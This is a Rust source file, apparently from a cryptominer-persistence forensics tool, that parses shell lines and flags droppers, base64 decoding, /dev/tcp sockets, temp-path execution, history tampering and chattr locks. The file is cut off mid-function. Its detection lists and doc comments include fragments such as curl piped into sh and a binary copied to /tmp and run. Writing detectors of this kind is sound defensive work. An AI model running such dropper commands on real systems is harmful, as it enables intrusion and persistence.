//! What one line of shell text does, as far as it can be read without running it: downloads piped into
//! a shell, base64 decoding, `/dev/tcp` sockets, bare IPs and URLs it reaches, programs it runs from
//! temporary or hidden paths, history tampering, kernel module loads and `chattr` locks.
//!
//! Used on crontab commands, unit `Exec*=` lines, rc/profile/at scripts and shell histories.
//! The split into commands is deliberately coarse: it cuts on `| ; & && || ( ) $( \`` and newlines even
//! inside quotes, so `sh -c 'curl x | sh'` is seen for what it runs. Words are split as the shell splits
//! them (quotes and backslashes honoured: `"/tmp/.x y/run"` is one program), and a quoted string handed
//! to a shell (`sh -c '...'`, `eval "..."`) is split again as the shell text it is. Arguments of commands that only *mention* things
//! (`pkill`, `kill`, `rm`, `grep`, `sed`, ...) do not count as reaching or running them: a cleanup script
//! full of rival IOCs is not itself a downloader.

use super::quoting::{lex, Lexeme, Quoting};
use super::{basename, contains};
use crate::indicators::{PathClass, PathClasses};

/// Downloaders: their presence plus a pipe into a shell is the classic dropper.
const DOWNLOADERS: &[&[u8]] = &[
    b"curl",
    b"wget",
    b"fetch",
    b"tftp",
    b"lwp-download",
    b"lwp-request",
    b"GET",
    b"aria2c",
    b"axel",
];

/// Programs that execute what they read on stdin, or a script their command line names: the one list of
/// interpreters, shared with the collector (`schemas/src/programs.rs`; the remediation script's respawn
/// scan reads it from the plan's data block).
pub use minetrace_schemas::programs::INTERPRETERS;

/// Shells: programs whose `-c` argument is shell text.
pub const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash", b"mksh"];

/// Commands whose arguments name things without running or reaching them.
const MENTION_ONLY: &[&[u8]] = &[
    b"pkill",
    b"kill",
    b"killall",
    b"rm",
    b"unlink",
    b"grep",
    b"egrep",
    b"fgrep",
    b"sed",
    b"awk",
    b"ps",
    b"netstat",
    b"ss",
    b"echo",
    b"printf",
    b"chattr",
    b"lsattr",
    b"ls",
    b"cat",
    b"test",
    b"[",
    b"xargs",
    b"crontab",
    b"systemctl",
    b"service",
    b"pgrep",
    b"pidof",
    b"iptables",
    b"ip6tables",
    b"ufw",
    b"tr",
    b"head",
    b"tail",
    b"cut",
    b"sort",
    b"uniq",
    b"wc",
    b"find",
    b"mv",
    b"cp",
    b"touch",
    b"mkdir",
    b"chmod",
    b"chown",
    b"docker",
    b"lsof",
    b"fuser",
    b"logger",
];

/// Wrappers skipped to find the real command.
const WRAPPERS: &[&[u8]] = &[
    b"sudo", b"nohup", b"setsid", b"exec", b"command", b"builtin", b"time", b"stdbuf", b"then",
    b"do", b"else", b"{", b"!", b"if", b"while", b"until", b"eval", b"doas", b"flock",
];

/// A program or script a line runs, as resolved against a prior `cd`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RanPath {
    pub path: Vec<u8>,
    /// Run with `.` or `source` (read by the current shell, as start-up files read their dotfiles).
    pub sourced: bool,
}

/// What a line does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellLine {
    /// A downloader runs (`curl`, `wget`, ...).
    pub download: bool,
    /// A download is piped into, or substituted into, a shell or interpreter.
    pub download_to_shell: bool,
    /// A download is saved and then run or made executable in the same line.
    pub download_then_exec: bool,
    /// `base64 -d`, `openssl base64 -d`, `b64decode(`.
    pub base64_decode: bool,
    /// Decoded data piped into a shell or interpreter.
    pub decode_to_shell: bool,
    /// `/dev/tcp/` or `/dev/udp/` (bash sockets: reverse shells and downloaders without curl).
    pub dev_tcp: bool,
    /// URLs reached (`http://`, `https://`, `ftp://`, `tftp://`), as written.
    pub urls: Vec<Vec<u8>>,
    /// Dotted IPv4 addresses reached (in URLs, `host:port`, `/dev/tcp/IP/PORT` or bare).
    pub bare_ips: Vec<String>,
    /// Dotted IPv4 addresses a program is told to listen on or bind to (`--listen 127.0.0.1:8080`,
    /// `--bind=0.0.0.0`): local addresses of a server, not places the line reaches.
    pub listen_ips: Vec<String>,
    /// Programs and scripts run (absolute, `~` or relative with `/`; relative ones joined to a prior `cd`).
    /// A file copied (`cp`, `mv`, `install`) to a path that the line then runs counts as run too:
    /// `cp /usr/bin/bprofr /tmp/dbused && /tmp/dbused` runs bprofr's bytes.
    pub executed: Vec<Vec<u8>>,
    /// Paths the line runs directly (not copy sources), in order; where they sit is judged with the path
    /// classes ([`ShellLine::temp_exec`], [`ShellLine::hidden_exec`]).
    pub ran: Vec<RanPath>,
    /// Every absolute or `~` path mentioned anywhere, for the attack graph.
    pub paths: Vec<Vec<u8>>,
    /// History tampering seen (`HISTFILE=/dev/null`, `history -c`, `unset HISTFILE`, ...).
    pub history_tamper: Vec<String>,
    /// `insmod`/`modprobe` targets.
    pub module_loads: Vec<Vec<u8>>,
    /// `chattr +i`/`+a` targets (locking).
    pub chattr_lock: Vec<Vec<u8>>,
    /// The line tests for a program or file before it runs anything (`test -x P &&`, `[ -f P ]`,
    /// `command -v P`, `which P`), as the cron files packages install do.
    pub guarded: bool,
    /// Directories a command runs chrooted into (`chroot DIR CMD`, `unshare --root=DIR CMD`): paths that
    /// command runs are recorded in [`ShellLine::ran`] under the directory (`DIR/start.sh`).
    pub roots: Vec<Vec<u8>>,
    /// Every segment's command, by basename, in order (`curl`, `sh`, ...).
    pub commands: Vec<Vec<u8>>,
    /// True when every command only mentions things (`pkill`, `rm`, `grep`, ...): a cleanup line.
    pub mention_only: bool,
}

impl ShellLine {
    /// Paths the line runs from a temporary directory (path class `temp`).
    pub fn temp_exec(&self, classes: &PathClasses) -> Vec<&[u8]> {
        self.ran
            .iter()
            .filter(|r| classes.is(PathClass::Temp, &r.path))
            .map(|r| r.path.as_slice())
            .collect()
    }

    /// Paths the line runs (not sources) that are hidden (path class `hidden`: a `.name/` component or a
    /// hidden file name, not the dot of a home's program directory such as `~/.local/bin/`).
    pub fn hidden_exec(&self, classes: &PathClasses) -> Vec<&[u8]> {
        self.ran
            .iter()
            .filter(|r| !r.sourced && classes.is(PathClass::Hidden, &r.path))
            .map(|r| r.path.as_slice())
            .collect()
    }

    /// True when nothing in the line is of interest.
    pub fn is_quiet(&self, classes: &PathClasses) -> bool {
        !(self.download_to_shell
            || self.download_then_exec
            || self.base64_decode
            || self.dev_tcp
            || !self.bare_ips.is_empty()
            || !self.temp_exec(classes).is_empty()
            || !self.hidden_exec(classes).is_empty()
            || !self.history_tamper.is_empty()
            || !self.module_loads.is_empty())
    }
}

struct Segment {
    words: Vec<Vec<u8>>,
    /// Targets of `>`, `>>`, `<` redirections (removed from `words`).
    redirects: Vec<Vec<u8>>,
    /// Reads the previous segment's stdout through `|`.
    piped: bool,
    /// Started by `$(`, backtick or `<(` : its output is substituted into the previous segment.
    substituted: bool,
}

/// Whether a word is the option before a shell command string: `-c` (`sh -c`, `su -c`, `flock F -c`),
/// a cluster ending in it (`bash -lc`) or `--command`.
fn takes_shell_text(option: &[u8]) -> bool {
    option == b"--command"
        || option
            .strip_prefix(b"-")
            .is_some_and(|o| o.ends_with(b"c") && o.iter().all(u8::is_ascii_alphabetic))
}

/// Splits a segment's text into words (quotes honoured and removed, [`super::quoting`]) and redirection
/// targets. A quoted string handed to a shell as its command (`sh -c '...'`, `su -c "..."`, `eval "..."`) is shell
/// text, not one word: it is split again in place, so what it runs is judged like the rest of the line.
fn split_words(text: &[u8]) -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
    let mut words = Vec::new();
    let mut redirects = Vec::new();
    split_into(text, 0, &mut words, &mut redirects);
    (words, redirects)
}

/// [`split_words`] into `words` and `redirects`, `depth` shell strings deep.
fn split_into(text: &[u8], depth: u8, words: &mut Vec<Vec<u8>>, redirects: &mut Vec<Vec<u8>>) {
    let mut expect_target = false;
    for lexeme in lex(text, Quoting::Shell) {
        let (bytes, spaced) = match lexeme {
            Lexeme::Redirect => {
                expect_target = true;
                continue;
            }
            Lexeme::Word { bytes, spaced } => (bytes, spaced),
        };
        if std::mem::take(&mut expect_target) {
            redirects.push(bytes);
            continue;
        }
        let shell_text = spaced
            && depth < 4
            && (words.last().is_some_and(|w| takes_shell_text(w))
                || words.first().is_some_and(|w| basename(w) == b"eval"));
        if shell_text {
            split_into(&bytes, depth + 1, words, redirects);
        } else {
            words.push(bytes);
        }
    }
}

/// Every word of shell text, then each segment's redirection targets (`true`), segment by segment,
/// split as [`analyze`] splits them (quotes honoured, shell strings split again): for the readers of what
/// a line names ([`super::refs`]), so a quoted path with a blank is one path there too.
pub fn words_in_order(text: &[u8]) -> Vec<(Vec<u8>, bool)> {
    let text = text.get(..super::MAX_LINE_BYTES).unwrap_or(text);
    let mut out = Vec::new();
    for seg in segments(text) {
        out.extend(seg.words.into_iter().map(|w| (w, false)));
        out.extend(seg.redirects.into_iter().map(|r| (r, true)));
    }
    out
}

/// Cuts the text into simple commands.
fn segments(text: &[u8]) -> Vec<Segment> {
    let mut out = Vec::new();
    let mut cur: Vec<u8> = Vec::new();
    let mut piped = false;
    let mut substituted = false;
    let mut i = 0;
    let flush = |cur: &mut Vec<u8>, piped: bool, substituted: bool, out: &mut Vec<Segment>| {
        let (words, redirects) = split_words(cur);
        out.push(Segment {
            words,
            redirects,
            piped,
            substituted,
        });
        cur.clear();
    };
    while let Some(&b) = text.get(i) {
        let next = text.get(i + 1).copied();
        let prev = i.checked_sub(1).and_then(|p| text.get(p)).copied();
        match b {
            b'|' if next == Some(b'|') => {
                flush(&mut cur, piped, substituted, &mut out);
                piped = false;
                substituted = false;
                i += 2;
                continue;
            }
            b'|' => {
                flush(&mut cur, piped, substituted, &mut out);
                piped = true;
                substituted = false;
            }
            b'&' if prev == Some(b'>') || next == Some(b'>') => cur.push(b' '),
            b';' | b'&' | b'\n' | b')' | b'}' => {
                flush(&mut cur, piped, substituted, &mut out);
                piped = false;
                substituted = false;
            }
            b'(' | b'`' => {
                let subst = b == b'`' || prev == Some(b'$') || prev == Some(b'<');
                if prev == Some(b'$') || prev == Some(b'<') {
                    cur.pop();
                }
                flush(&mut cur, piped, substituted, &mut out);
                piped = false;
                substituted = subst;
            }
            _ => cur.push(b),
        }
        i += 1;
    }
    flush(&mut cur, piped, substituted, &mut out);
    out.retain(|s| !s.words.is_empty() || !s.redirects.is_empty());
    out
}

fn is_assignment(w: &[u8]) -> bool {
    match w.iter().position(|b| *b == b'=') {
        Some(eq) if eq > 0 => w
            .get(..eq)
            .is_some_and(|n| n.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')),
        _ => false,
    }
}

/// What an interpreter's command line runs (see [`interpreter_run`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InterpreterRun<'a> {
    /// A script file, as the command line names it (`bash /x/run`, `python3 -u x.py`).
    Script(&'a [u8]),
    /// Program text on the command line (`sh -c TEXT`, `python3 -c TEXT`, `perl -e TEXT`).
    Inline(&'a [u8]),
}

/// Whether `name` (a program's basename) is a shell or language interpreter; version suffixes
/// (`python3.11`, `perl5.36`) are ignored.
pub fn is_interpreter(name: &[u8]) -> bool {
    let trimmed = {
        let mut end = name.len();
        while end > 0
            && name
                .get(end - 1)
                .is_some_and(|b| b.is_ascii_digit() || *b == b'.')
        {
            end -= 1;
        }
        name.get(..end).unwrap_or(name)
    };
    INTERPRETERS.contains(&name) || INTERPRETERS.contains(&trimmed)
}

/// Interpreter options whose value is the next word (`-W ignore`, `--rcfile FILE`).
pub const VALUED_OPTIONS: &[&[u8]] = &[
    b"-o",
    b"-O",
    b"-W",
    b"-X",
    b"-I",
    b"--rcfile",
    b"--init-file",
];

/// Interpreter options after which the next word is program text, not a script (`sh -c TEXT`).
pub const INLINE_OPTIONS: &[&[u8]] = &[b"-c", b"-e", b"-E", b"-r"];

/// Interpreter options after which no script file follows (stdin, a module: `python3 -m`).
pub const NO_SCRIPT_OPTIONS: &[&[u8]] = &[b"-m", b"-", b"-s"];

/// What a running interpreter executes, from its `argv` (`program` is its executable's basename): the
/// script it was given or the inline program text; `None` when it is no interpreter, reads its program
/// from stdin, or runs a module (`python3 -m`).
pub fn interpreter_run<'a>(program: &[u8], argv: &[&'a [u8]]) -> Option<InterpreterRun<'a>> {
    let argv0 = argv.first().map(|a| basename(a)).unwrap_or_default();
    if !is_interpreter(program) && !is_interpreter(argv0) {
        return None;
    }
    let mut i = 1;
    while let Some(a) = argv.get(i) {
        match *a {
            _ if INLINE_OPTIONS.contains(a) => {
                return argv.get(i + 1).map(|t| InterpreterRun::Inline(t))
            }
            _ if NO_SCRIPT_OPTIONS.contains(a) => return None,
            b"--" => return argv.get(i + 1).map(|s| InterpreterRun::Script(s)),
            _ if VALUED_OPTIONS.contains(a) => i += 2,
            _ if a.starts_with(b"-") || a.starts_with(b"+") => i += 1,
            _ => return Some(InterpreterRun::Script(a)),
        }
    }
    None
}

/// Whether a segment tests for a program or file: `test`, `[`, `[[`, `which`, `type`, `hash`, or
/// `command -v` (after assignments and `if`/`!`/`then`).
fn is_guard(words: &[Vec<u8>]) -> bool {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        if is_assignment(w) || matches!(w.as_slice(), b"if" | b"!" | b"then" | b"elif" | b"while") {
            i += 1;
            continue;
        }
        return match basename(w) {
            b"test" | b"[" | b"[[" | b"which" | b"type" | b"hash" => true,
            b"command" => words
                .get(i + 1)
                .is_some_and(|a| matches!(a.as_slice(), b"-v" | b"-V")),
            _ => false,
        };
    }
    false
}

/// A command that runs another one in a root or namespaces of its own: `chroot [OPT] DIR CMD`,
/// `unshare [OPT] [--root=DIR] CMD`, `nsenter [OPT] [--] CMD`. Returns the new root (for `chroot` and
/// `unshare --root`; `nsenter` enters namespaces of a running process, whose root this text cannot know)
/// and the index of the inner command's first word.
fn enter_root(words: &[Vec<u8>], ci: usize) -> Option<(Option<Vec<u8>>, usize)> {
    let cmd = basename(words.get(ci)?);
    let mut i = ci + 1;
    let mut root = None;
    match cmd {
        b"chroot" => {
            while words.get(i).is_some_and(|w| w.starts_with(b"-")) {
                let w = words.get(i)?;
                i += 1;
                if w.as_slice() == b"--" {
                    break;
                }
            }
            root = Some(words.get(i)?.clone());
            i += 1;
        }
        b"unshare" | b"nsenter" => {
            // Options that take their value as the next word.
            const VALUED: &[&[u8]] = &[
                b"-t",
                b"--target",
                b"-S",
                b"--setuid",
                b"-G",
                b"--setgid",
                b"-R",
                b"--root",
                b"-w",
                b"--wd",
                b"--map-user",
                b"--map-group",
                b"--propagation",
                b"--setgroups",
                b"-N",
                b"--net-socket",
                b"--kill-child",
            ];
            while let Some(w) = words.get(i) {
                if w.as_slice() == b"--" {
                    i += 1;
                    break;
                }
                if !w.starts_with(b"-") {
                    break;
                }
                i += 1;
                let (name, inline) = match w.iter().position(|b| *b == b'=') {
                    Some(eq) => (w.get(..eq)?, w.get(eq + 1..)),
                    None => (w.as_slice(), None),
                };
                let value = if inline.is_some() {
                    inline.map(<[u8]>::to_vec)
                } else if VALUED.contains(&name) {
                    i += 1;
                    words.get(i - 1).cloned()
                } else {
                    None
                };
                if matches!(name, b"-R" | b"--root") {
                    root = value;
                }
            }
        }
        _ => return None,
    }
    let rest = words.get(i..)?;
    let inner = command_index(rest)?;
    Some((root, i + inner))
}

/// Index of the real command word in a segment, after assignments and wrappers (`sudo`, `nohup`,
/// `timeout 10`, `nice -n 5`, `env A=b`, `sh -c`).
fn command_index(words: &[Vec<u8>]) -> Option<usize> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        let base = basename(w);
        if is_assignment(w) {
            i += 1;
        } else if WRAPPERS.contains(&base) || base == b"env" {
            i += 1;
            while words
                .get(i)
                .is_some_and(|a| a.starts_with(b"-") || is_assignment(a))
            {
                i += 1;
            }
        } else if base == b"timeout" || base == b"nice" || base == b"ionice" || base == b"taskset" {
            i += 1;
            while words
                .get(i)
                .is_some_and(|a| a.starts_with(b"-") || a.first().is_some_and(u8::is_ascii_digit))
            {
                i += 1;
            }
        } else if SHELLS.contains(&base) && words.get(i + 1).is_some_and(|a| a.as_slice() == b"-c")
        {
            if words.get(i + 2).is_some() {
                i += 2;
            } else {
                return Some(i);
            }
        } else if base == b"busybox" && words.get(i + 1).is_some() {
            i += 1;
        } else {
            return Some(i);
        }
    }
    None
}

/// True for a word that names a path worth following (absolute, home-relative or dot-relative).
fn is_pathish(w: &[u8]) -> bool {
    w.starts_with(b"/")
        || w.starts_with(b"~/")
        || w.starts_with(b"./")
        || w.starts_with(b"$HOME/")
        || (w.contains(&b'/')
            && w.first()
                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.'))
            && !w.contains(&b':')
}

fn push_unique<T: PartialEq>(v: &mut Vec<T>, x: T) {
    if !v.contains(&x) && v.len() < 64 {
        v.push(x);
    }
}

/// Analyses one line (or a whole small script) of shell text.
pub fn analyze(text: &[u8]) -> ShellLine {
    let text = text.get(..super::MAX_LINE_BYTES).unwrap_or(text);
    let segs = segments(text);
    let mut walk = Walk {
        out: ShellLine {
            mention_only: true,
            ..ShellLine::default()
        },
        cwd: None,
        seg_root: None,
        pipeline_has: (false, false),
        saved_downloads: Vec::new(),
        copies: Vec::new(),
        pending_shell_subst: false,
    };
    for seg in &segs {
        walk.segment(seg);
    }
    if segs.is_empty() {
        walk.out.mention_only = false;
    }
    walk.out
}

/// What [`analyze`] carries from one segment of a line to the next.
struct Walk {
    out: ShellLine,
    /// The directory of the last `cd`, that relative programs run from.
    cwd: Option<Vec<u8>>,
    /// The root the current segment's command runs in (`chroot DIR`, `unshare --root=DIR`).
    seg_root: Option<Vec<u8>>,
    /// Kinds of the segments so far in the current pipeline: (downloader, decoder).
    pipeline_has: (bool, bool),
    /// Files a downloader wrote (`-o`, `-O`).
    saved_downloads: Vec<Vec<u8>>,
    /// `cp SRC... DST` / `mv` / `install`: (source, destination) pairs, to follow a copy that is then run.
    copies: Vec<(Vec<u8>, Vec<u8>)>,
    /// The previous segment hands a substitution to a shell (`bash -c "$(...)"`, `eval "$(...)"`).
    pending_shell_subst: bool,
}

/// A downloader: a fetch tool, or an interpreter one-liner that opens URLs.
fn is_downloader(cmd: &[u8], args: &[Vec<u8>]) -> bool {
    DOWNLOADERS.contains(&cmd)
        || (matches!(cmd, b"python" | b"python2" | b"python3" | b"perl" | b"php")
            && args.iter().any(|a| {
                contains(a, b"urllib")
                    || contains(a, b"urlopen")
                    || contains(a, b"LWP")
                    || contains(a, b"requests.get")
            }))
}

/// The script file an interpreter's arguments name: the first word that is no option or assignment. A
/// shell given `-s` (alone or among short options) reads its commands from stdin and takes every later
/// word as a positional parameter: `curl ... | sh -s -- -y --profile minimal` runs what curl fetched, and
/// `minimal` is no script.
fn script_operand<'a>(cmd: &[u8], args: &'a [Vec<u8>]) -> Option<&'a Vec<u8>> {
    let shell = matches!(
        cmd,
        b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"ash" | b"mksh" | b"busybox"
    );
    for a in args {
        if a.starts_with(b"-") {
            let short = !a.starts_with(b"--") && a.len() > 1;
            if shell && short && a.contains(&b's') {
                return None;
            }
            continue;
        }
        if !is_assignment(a) {
            return Some(a);
        }
    }
    None
}

/// A base64 decoder (`base64 -d`, `openssl base64 -d`, `b64decode(`).
fn is_decoder(cmd: &[u8], args: &[Vec<u8>]) -> bool {
    (cmd == b"base64"
        && args
            .iter()
            .any(|a| matches!(a.as_slice(), b"-d" | b"--decode" | b"-D" | b"-di")))
        || (cmd == b"openssl"
            && args
                .iter()
                .any(|a| a == b"base64" || a == b"-base64" || a == b"-a")
            && args.iter().any(|a| a == b"-d"))
        || args
            .iter()
            .any(|a| contains(a, b"b64decode") || contains(a, b"decode_base64"))
}

impl Walk {
    fn segment(&mut self, seg: &Segment) {
        let words = &seg.words;
        history_checks(seg, &mut self.out);
        for r in &seg.redirects {
            for p in path_words(r) {
                push_unique(&mut self.out.paths, p);
            }
        }
        if is_guard(words) {
            self.out.guarded = true;
        }
        self.seg_root = None;
        let Some(mut ci) = command_index(words) else {
            return;
        };
        // `chroot DIR CMD`, `unshare ... CMD`, `nsenter ... CMD`: what runs is CMD, inside DIR.
        for _ in 0..4 {
            let Some((root, inner)) = enter_root(words, ci) else {
                break;
            };
            if let Some(r) = root.filter(|r| is_pathish(r)) {
                let r = r.strip_suffix(b"/").unwrap_or(&r).to_vec();
                push_unique(&mut self.out.roots, r.clone());
                self.seg_root = Some(match self.seg_root.take() {
                    Some(outer) if r.starts_with(b"/") => [outer.as_slice(), r.as_slice()].concat(),
                    _ => r,
                });
            }
            ci = inner;
        }
        let Some(cmd_word) = words.get(ci) else {
            return;
        };
        let cmd = basename(cmd_word).to_vec();
        let args = words.get(ci + 1..).unwrap_or_default();
        push_unique(&mut self.out.commands, cmd.clone());
        if !seg.piped {
            self.pipeline_has = (false, false);
        }
        let downloader = is_downloader(&cmd, args);
        let decoder = is_decoder(&cmd, args);
        let mention = MENTION_ONLY.contains(&cmd.as_slice()) && !decoder;
        if !mention {
            self.out.mention_only = false;
        }
        self.scan_words(seg, mention);
        if downloader {
            self.downloader(seg, args);
        }
        if decoder {
            self.out.base64_decode = true;
            self.pipeline_has.1 = true;
            if self.pending_shell_subst && seg.substituted {
                self.out.decode_to_shell = true;
            }
        }
        let is_interp = INTERPRETERS.contains(&cmd.as_slice());
        let script_arg = script_operand(&cmd, args);
        if is_interp
            && seg.piped
            && script_arg.is_none_or(|a| a.as_slice() == b"-s" || a.as_slice() == b"-")
        {
            if self.pipeline_has.0 {
                self.out.download_to_shell = true;
            }
            if self.pipeline_has.1 {
                self.out.decode_to_shell = true;
            }
        }
        // `bash -c "$(curl ...)"`, `bash <(curl ...)`, `. <(curl ...)`, `eval "$(...)"`.
        self.pending_shell_subst = (is_interp || cmd == b"." || cmd == b"source" || cmd == b"eval")
            && args
                .iter()
                .all(|a| a.as_slice() == b"-c" || a.as_slice() == b"<" || a.starts_with(b"-"));
        if words.first().is_some_and(|w| basename(w) == b"eval") {
            self.pending_shell_subst = true;
        }
        // `cd DIR` sets the directory relative programs run from.
        if cmd == b"cd" {
            self.cwd = args.first().filter(|d| is_pathish(d)).cloned();
            return;
        }
        self.side_effects(&cmd, args);
        if cmd == b"chmod" {
            self.chmod(args);
            return;
        }
        if mention {
            return;
        }
        // What runs: the command word when it is a path, the script of an interpreter.
        let mut run: Vec<Vec<u8>> = Vec::new();
        if is_pathish(cmd_word) {
            run.push(cmd_word.clone());
        }
        let sources = cmd == b"." || cmd == b"source";
        if is_interp || sources {
            if let Some(s) = script_arg.filter(|a| is_pathish(a) || !a.contains(&b' ')) {
                if is_pathish(s) || sources || self.saved_downloads.contains(s) {
                    run.push(s.clone());
                }
            }
        }
        // Sourcing a hidden file (`. ~/.bash_aliases`, `. "$HOME/.cargo/env"`) is what dotfiles do; only
        // programs run from hidden paths count as hidden execution.
        for r in run {
            self.runs(r, sources);
        }
    }

    /// Paths mentioned anywhere (for the graph); IPs and URLs only where the line reaches them, and the
    /// addresses a server is told to listen on apart.
    fn scan_words(&mut self, seg: &Segment, mention: bool) {
        for w in &seg.words {
            for p in path_words(w) {
                push_unique(&mut self.out.paths, p);
            }
        }
        if mention {
            return;
        }
        let mut listen_value = false;
        for w in seg.words.iter().chain(seg.redirects.iter()) {
            let option = listen_option(w);
            let value = match option {
                Some(Some(v)) => Some(v),
                _ if listen_value => Some(w.as_slice()),
                _ => None,
            };
            match value {
                Some(v) => {
                    for ip in ipv4s(v) {
                        push_unique(&mut self.out.listen_ips, ip);
                    }
                }
                None => scan_reach(w, &mut self.out),
            }
            listen_value = option == Some(None);
        }
    }

    fn downloader(&mut self, seg: &Segment, args: &[Vec<u8>]) {
        self.out.download = true;
        self.pipeline_has.0 = true;
        if self.pending_shell_subst && seg.substituted {
            self.out.download_to_shell = true;
        }
        // `curl URL > FILE`: the download is saved where stdout goes (not `/dev/null`).
        for r in seg
            .redirects
            .iter()
            .filter(|r| is_pathish(r) && !r.starts_with(b"/dev/"))
        {
            self.saved_downloads.push(r.clone());
        }
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if matches!(
                a.as_slice(),
                b"-o" | b"-O" | b"--output" | b"--output-document"
            ) {
                if let Some(f) = it.next().filter(|f| f.as_slice() != b"-") {
                    self.saved_downloads.push(f.clone());
                }
            }
        }
    }

    /// Module loads, chattr locks and copies a segment makes, whatever else it does.
    fn side_effects(&mut self, cmd: &[u8], args: &[Vec<u8>]) {
        if matches!(cmd, b"insmod" | b"modprobe") {
            if let Some(m) = args.iter().find(|a| !a.starts_with(b"-")) {
                push_unique(&mut self.out.module_loads, m.clone());
            }
        }
        let locks = args
            .iter()
            .any(|a| a.starts_with(b"+") && (a.contains(&b'i') || a.contains(&b'a')));
        if (cmd == b"chattr" || cmd == b"tntrecht") && locks {
            for a in args
                .iter()
                .filter(|a| !a.starts_with(b"+") && !a.starts_with(b"-"))
            {
                push_unique(&mut self.out.chattr_lock, a.clone());
            }
        }
        if matches!(cmd, b"cp" | b"mv" | b"install") {
            let operands: Vec<&Vec<u8>> = args
                .iter()
                .filter(|a| !a.starts_with(b"-") && is_pathish(a))
                .collect();
            if let Some((dst, srcs)) = operands.split_last() {
                for src in srcs {
                    let to = if dst.ends_with(b"/") {
                        [dst.as_slice(), basename(src)].concat()
                    } else {
                        dst.to_vec()
                    };
                    if self.copies.len() < 64 {
                        self.copies.push((src.to_vec(), to));
                    }
                }
            }
        }
    }

    /// `chmod +x` on a file the line downloaded: download then execute.
    fn chmod(&mut self, args: &[Vec<u8>]) {
        if !args
            .iter()
            .any(|a| contains(a, b"x") || a.iter().all(u8::is_ascii_digit))
        {
            return;
        }
        for a in args
            .iter()
            .filter(|a| !a.starts_with(b"-") && !a.starts_with(b"+"))
        {
            if self.saved_downloads.iter().any(|d| d == a) {
                self.out.download_then_exec = true;
            }
        }
    }

    /// Records a program the line runs (resolved against the last `cd`) and the sources of copies made to
    /// it.
    fn runs(&mut self, r: Vec<u8>, sourced: bool) {
        if self
            .saved_downloads
            .iter()
            .any(|d| d == &r || basename(d) == basename(&r))
        {
            self.out.download_then_exec = true;
        }
        let resolved = match (&self.seg_root, &self.cwd) {
            // Inside a chroot: an absolute path is under the new root.
            (Some(root), _) if r.starts_with(b"/") => [root.as_slice(), r.as_slice()].concat(),
            (None, Some(dir))
                if !r.starts_with(b"/") && !r.starts_with(b"~") && !r.starts_with(b"$") =>
            {
                let rel = r.strip_prefix(b"./").unwrap_or(&r);
                [dir.as_slice(), b"/", rel].concat()
            }
            _ => r.clone(),
        };
        if !self.out.ran.iter().any(|x| x.path == resolved) && self.out.ran.len() < 64 {
            self.out.ran.push(RanPath {
                path: resolved.clone(),
                sourced,
            });
        }
        for (src, _) in self.copies.iter().filter(|(_, dst)| *dst == resolved) {
            push_unique(&mut self.out.executed, src.clone());
        }
        push_unique(&mut self.out.executed, resolved);
    }
}

/// For an option naming the address a program listens on or binds to (`--listen`, `--bind`,
/// `--listen-address`, `-bind`; any option whose name holds `listen` or `bind`): `Some(Some(value))` for
/// the `--opt=value` form, `Some(None)` when the value is the next word; `None` for other words.
fn listen_option(w: &[u8]) -> Option<Option<&[u8]>> {
    let body = w.strip_prefix(b"-")?;
    let body = body.strip_prefix(b"-").unwrap_or(body);
    let (name, value) = match body.iter().position(|b| *b == b'=') {
        Some(eq) => (body.get(..eq)?, Some(body.get(eq + 1..)?)),
        None => (body, None),
    };
    let name = name.to_ascii_lowercase();
    (contains(&name, b"listen") || contains(&name, b"bind")).then_some(value)
}

/// Absolute and `~` paths inside a word (`>/tmp/x`, `--config=/root/.x/c.json`).
fn path_words(w: &[u8]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&b) = w.get(i) {
        let start_ok = (b == b'/' || (b == b'~' && w.get(i + 1) == Some(&b'/')))
            && (i == 0
                || w.get(i - 1)
                    .is_some_and(|p| matches!(p, b'=' | b'>' | b'<' | b':' | b',')));
        if start_ok {
            let end = w
                .get(i..)
                .unwrap_or_default()
                .iter()
                .position(|c| matches!(c, b',' | b';' | b'>' | b'<' | b'|'))
                .map_or(w.len(), |e| i + e);
            let p = w.get(i..end).unwrap_or_default();
            if p.len() > 1 && !p.starts_with(b"//") {
                out.push(p.to_vec());
            }
            i = end.max(i + 1);
        } else {
            i += 1;
        }
    }
    out
}

/// URLs and IPv4 addresses in a word.
fn scan_reach(w: &[u8], out: &mut ShellLine) {
    for scheme in [&b"http://"[..], b"https://", b"ftp://", b"tftp://"] {
        let mut from = 0;
        while let Some(pos) = w.get(from..).and_then(|rest| {
            rest.windows(scheme.len())
                .position(|x| x.eq_ignore_ascii_case(scheme))
        }) {
            let start = from + pos;
            let end = w
                .get(start..)
                .unwrap_or_default()
                .iter()
                .position(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b')' | b'`'))
                .map_or(w.len(), |e| start + e);
            push_unique(
                &mut out.urls,
                w.get(start..end).unwrap_or_default().to_vec(),
            );
            from = end.max(start + 1);
        }
    }
    if contains(w, b"/dev/tcp/") || contains(w, b"/dev/udp/") {
        out.dev_tcp = true;
    }
    for ip in ipv4s(w) {
        push_unique(&mut out.bare_ips, ip);
    }
}

/// Dotted-quad IPv4 addresses in a word, not part of a longer dotted run (version numbers such as
/// `1.2.3.4.5`) and not `0.0.0.0`.
pub fn ipv4s(w: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < w.len() {
        let boundary_before = i == 0
            || w.get(i - 1)
                .is_some_and(|b| !b.is_ascii_digit() && *b != b'.');
        if !boundary_before || !w.get(i).is_some_and(u8::is_ascii_digit) {
            i += 1;
            continue;
        }
        let end = w
            .get(i..)
            .unwrap_or_default()
            .iter()
            .position(|b| !b.is_ascii_digit() && *b != b'.')
            .map_or(w.len(), |e| i + e);
        let run = w.get(i..end).unwrap_or_default();
        let run = run.strip_suffix(b".").unwrap_or(run);
        if let Ok(text) = std::str::from_utf8(run) {
